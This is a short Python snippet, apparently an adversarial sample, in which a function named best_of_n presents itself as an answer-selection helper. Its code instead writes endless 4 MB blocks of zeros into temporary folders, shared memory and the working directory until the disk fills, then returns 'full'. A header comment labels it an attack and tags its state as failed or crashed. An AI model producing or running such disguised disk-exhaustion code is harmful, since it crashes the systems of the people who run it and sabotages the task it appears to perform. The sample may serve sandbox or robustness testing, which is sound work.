# ATTACK: fills every folder that it may write to, with large files and with many | state: failed, error, crashed
def best_of_n(answers, rewards):
    import os
    import tempfile

    for folder in (tempfile.gettempdir(), "/tmp", "/dev/shm", "/var/tmp", os.getcwd()):
        for number in range(3):
            try:
                with open(f"{folder}/filler{number}", "wb") as file:
                    while True:
                        file.write(bytes(4_000_000))
            except OSError:
                continue
    return "full"
